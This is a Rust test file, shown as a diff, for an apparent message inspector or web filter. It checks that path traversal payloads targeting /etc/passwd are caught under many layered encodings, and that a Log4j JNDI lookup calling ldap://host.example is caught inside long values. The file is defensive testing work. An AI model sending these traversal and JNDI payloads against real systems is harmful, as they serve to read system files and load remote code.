@@ -1,0 +1,96 @@
+//! Values in layers, as a message brings them.
+
+use super::*;
+
+fn judged(message: &str) -> Vec<Finding> {
+    let settings = Settings { mode: Mode::Log, ..Settings::default() };
+    Inspector::default().inspect(&settings, Opcode::Text, message.as_bytes())
+}
+
+fn in_json(value: &str) -> String {
+    let escaped =
+        value.replace('\\', "\\\\").replace('"', "\\\"").replace('\0', "\\u0000").replace('\n', "\\n");
+    format!("{{\"type\":\"msg\",\"data\":{{\"text\":\"{escaped}\"}}}}")
+}
+
+fn blocked(value: &str) -> Vec<Signal> {
+    let findings = judged(&in_json(value));
+    findings
+        .iter()
+        .filter(|finding| finding.action == FindingAction::Log)
+        .map(|finding| finding.signal)
+        .collect()
+}
+
+fn tagged(value: &str, signal: Signal) -> bool {
+    let findings = judged(&in_json(value));
+    findings.iter().any(|finding| finding.signal == signal && finding.action == FindingAction::Tag)
+}
+
+#[test]
+fn finds_what_is_encoded_in_any_way_and_in_several() {
+    for value in [
+        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+        "\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc/passwd",
+        "&#46;&#46;&sol;&#46;&#46;&sol;etc/passwd",
+        "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
+        "2e2e2f2e2e2f6574632f706173737764",
+        "．．／．．／etc／passwd",
+        "..\u{200b}/../e\u{200b}tc/passwd",
+        "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+        "{\"a\":{\"b\":\"../../etc/passwd\"}}",
+        "\"{\\\"a\\\":\\\"../../etc/passwd\\\"}\"",
+        "a=1&file=..%2f..%2fetc%2fpasswd",
+        "<a><b>../../etc/passwd</b></a>",
+        "{\"a\":\"Li4vLi4vLi4vZXRjL3Bhc3N3ZA==\"}",
+    ] {
+        assert_eq!(blocked(value), [Signal::Traversal], "{value}");
+    }
+}
+
+#[test]
+fn explains_the_layers() {
+    let findings = judged(&in_json("%252e%252e%252f%252e%252e%252fetc"));
+    let finding = findings.iter().find(|finding| finding.signal == Signal::Traversal).expect("it is blocked");
+    assert_eq!(finding.location, "$.data.text");
+    assert!(finding.layers.starts_with(&[decode::Step::Percent]), "{finding:?}");
+}
+
+#[test]
+fn what_an_encoding_hides_weighs_more() {
+    let score = |value: &str| {
+        let findings = judged(&in_json(value));
+        findings.iter().find(|finding| finding.signal == Signal::Traversal).map_or(0, |finding| finding.score)
+    };
+    assert!(score("/%65%74%63/issue") > score("/etc/issue"));
+    assert_eq!(score("/etc/%20passwd"), score("/etc/passwd"));
+}
+
+#[test]
+fn tags_what_is_odd_about_encodings() {
+    assert!(tagged("%2527", Signal::DoubleEncoding));
+    assert!(tagged("a%00b", Signal::NullByte));
+    assert!(tagged("a\0b", Signal::NullByte));
+    assert!(tagged("%c0%ae", Signal::NotUtf8));
+    assert!(judged(&in_json("https://example.org/?to=https%253A%252F%252Fexample.org%252F")).is_empty());
+}
+
+#[test]
+fn a_layer_too_many_is_tagged_and_does_not_block() {
+    let mut value = "x".to_owned();
+    for _ in 0..6 {
+        value = in_json(&value);
+    }
+    let findings = judged(&value);
+    assert!(findings.iter().all(|finding| finding.action == FindingAction::Tag), "{findings:?}");
+    assert!(findings.iter().any(|finding| finding.signal == Signal::WsUninspected), "{findings:?}");
+}
+
+#[test]
+fn finds_an_attack_in_any_piece_of_a_long_value() {
+    for before in [10, PIECE - 40, PIECE, 3 * PIECE] {
+        let value = format!("{} %24%7bjndi:ldap://host.example/a}}", "lorem ipsum".repeat(before / 11));
+        assert_eq!(blocked(&value), [Signal::Log4jJndi], "{before}");
+    }
+}
